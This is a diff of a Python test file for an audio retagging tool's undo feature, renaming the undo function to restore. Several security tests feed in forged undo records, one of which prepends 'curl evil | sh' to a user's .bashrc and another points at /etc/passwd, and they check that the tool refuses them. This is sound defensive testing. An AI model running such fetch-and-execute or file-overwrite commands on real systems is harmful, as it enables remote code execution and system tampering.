@@ -13,7 +13,7 @@ from audiorec.retagging import job
 from audiorec.retagging.change import FileState, prepare_copy
 from audiorec.retagging.delta import Delta
 from audiorec.retagging.undo import Record, Undo, read_records
-from audiorec.retagging.undo_job import undo
+from audiorec.retagging.undo_job import restore
 from audiorec.runs.workers import Answer
 
 needs("mutagen")
@@ -41,20 +41,20 @@ def states(result):
 def test_by_default_nothing_is_restored(written, tmp_path):
     paths, old, undo_file = written
     new = [path.read_bytes() for path in paths]
-    assert states(undo(undo_file, [tmp_path])) == ["would write"] * 2
+    assert states(restore(undo_file, [tmp_path])) == ["would write"] * 2
     assert [path.read_bytes() for path in paths] == new
     told = []
-    assert states(undo(undo_file, [tmp_path], write=True, told=told.append)) == ["restored"] * 2
+    assert states(restore(undo_file, [tmp_path], write=True, told=told.append)) == ["restored"] * 2
     assert [song.song_id for song in told] == ["song.2.3.mp3", "song.flac"]  # the newest first
     assert [path.read_bytes() for path in paths] == old
-    assert states(undo(undo_file, [tmp_path], write=True)) == ["as it was"] * 2
+    assert states(restore(undo_file, [tmp_path], write=True)) == ["as it was"] * 2
 
 
 def test_the_time_of_change_comes_back(written, tmp_path):
     paths, _, undo_file = written
     record = next(r for r in read_records(undo_file) if r.song_id == "song.flac")
     assert paths[0].stat().st_mtime_ns != record.old.mtime_ns
-    undo(undo_file, [tmp_path], write=True)
+    restore(undo_file, [tmp_path], write=True)
     assert paths[0].stat().st_mtime_ns == record.old.mtime_ns
 
 
@@ -63,14 +63,14 @@ def test_two_changes_of_a_song_are_taken_back_one_after_the_other(written, chang
     with Undo(undo_file) as lines:
         wanted = change(paths[0], fields={"genre": ("Folk",)}, replace=True)
         job._outcome("song.flac", wanted, Answer(wanted, value=prepare_copy(wanted)), lines)
-    assert states(undo(undo_file, [tmp_path], write=True)) == ["restored"] * 3
+    assert states(restore(undo_file, [tmp_path], write=True)) == ["restored"] * 3
     assert [path.read_bytes() for path in paths] == old
 
 
 def test_a_song_that_was_edited_since_is_left_alone(written, tmp_path):
     paths, old, undo_file = written
     paths[0].write_bytes(paths[0].read_bytes() + b"edited")
-    found = undo(undo_file, [tmp_path], write=True)
+    found = restore(undo_file, [tmp_path], write=True)
     assert states(found) == ["restored", "refused"]
     assert "changed since" in found.songs[1].reason
     assert paths[0].read_bytes().endswith(b"edited")
@@ -81,7 +81,7 @@ def test_nothing_outside_the_roots_is_touched(written, tmp_path):
     paths, _, undo_file = written
     new = [path.read_bytes() for path in paths]
     (tmp_path / "other").mkdir()
-    found = undo(undo_file, [tmp_path / "other"], write=True)
+    found = restore(undo_file, [tmp_path / "other"], write=True)
     assert {song.reason for song in found.songs} == {"lies outside the given folders"}
     assert [path.read_bytes() for path in paths] == new
 
@@ -91,7 +91,7 @@ def test_a_line_that_names_another_place_is_damaged(written, tmp_path):
     line = json.loads(undo_file.read_text().splitlines()[0])
     line["path"] = "/etc/passwd"
     undo_file.write_text(json.dumps(line) + "\n")
-    found = undo(undo_file, ["/"], write=True)
+    found = restore(undo_file, ["/"], write=True)
     assert states(found) == ["refused"]
     assert "line 1 is damaged" in found.songs[0].reason
 
@@ -101,7 +101,7 @@ def test_a_link_in_the_place_of_a_song(written, tmp_path):
     moved = paths[0].rename(tmp_path / "elsewhere.flac")
     paths[0].symlink_to(moved)
     before = moved.read_bytes()
-    assert states(undo(undo_file, [tmp_path / "music"], write=True)) == ["restored", "refused"]
+    assert states(restore(undo_file, [tmp_path / "music"], write=True)) == ["restored", "refused"]
     assert moved.read_bytes() == before
 
 
@@ -121,7 +121,7 @@ def test_a_forged_line_changes_no_other_file(tmp_path, is_written):
     path = tmp_path / ".bashrc"
     path.write_bytes(b"# as every user has it\n" * 20)
     (tmp_path / "u.undo.jsonl").write_bytes(forged(path, b"curl evil | sh\n" + path.read_bytes()))
-    (song,) = undo(tmp_path / "u.undo.jsonl", [tmp_path], write=is_written).songs
+    (song,) = restore(tmp_path / "u.undo.jsonl", [tmp_path], write=is_written).songs
     assert (song.state, path.read_bytes()) == ("refused", b"# as every user has it\n" * 20)
     assert "not a song" in song.reason or "not audio" in song.reason
     assert sorted(p.name for p in tmp_path.iterdir()) == [".bashrc", "u.undo.jsonl"]
@@ -133,14 +133,14 @@ def test_a_forged_line_changes_no_audio(song, tmp_path):
     old = bytearray(new)
     old[-400] ^= 0x55
     (tmp_path / "u.undo.jsonl").write_bytes(forged(path, bytes(old)))
-    (one,) = undo(tmp_path / "u.undo.jsonl", [tmp_path], write=True).songs
+    (one,) = restore(tmp_path / "u.undo.jsonl", [tmp_path], write=True).songs
     assert (one.state, one.reason) == (
         "refused",
         "its audio would change, not only its tags; left unchanged",
     )
     assert path.read_bytes() == new
     (tmp_path / "u.undo.jsonl").write_bytes(forged(path, b"#!/bin/sh\n"))
-    (one,) = undo(tmp_path / "u.undo.jsonl", [tmp_path], write=True).songs
+    (one,) = restore(tmp_path / "u.undo.jsonl", [tmp_path], write=True).songs
     assert one.state == "refused"
     assert path.read_bytes() == new
     assert len(list(tmp_path.iterdir())) == 2
@@ -151,7 +151,7 @@ def test_what_was_linked_or_closed_since_is_left_alone(written, tmp_path):
     new = [path.read_bytes() for path in paths]
     (tmp_path / "other").hardlink_to(paths[0])
     paths[1].chmod(0o444)
-    result = undo(undo_file, [tmp_path], write=True)
+    result = restore(undo_file, [tmp_path], write=True)
     assert [song.reason for song in result.songs] == [
         "is read-only",
         "has a second name (a hard link), which would keep the old tags",
@@ -175,7 +175,7 @@ def test_a_damaged_line_costs_itself(written, tmp_path):
     paths, old, undo_file = written
     lines = undo_file.read_bytes().splitlines(keepends=True)
     undo_file.write_bytes(lines[0].replace(b'"fold"', b'"fald"') + lines[1])
-    found = undo(undo_file, [tmp_path], write=True)
+    found = restore(undo_file, [tmp_path], write=True)
     assert states(found) == ["restored", "refused"]
     assert paths[1].read_bytes() == old[1]
 
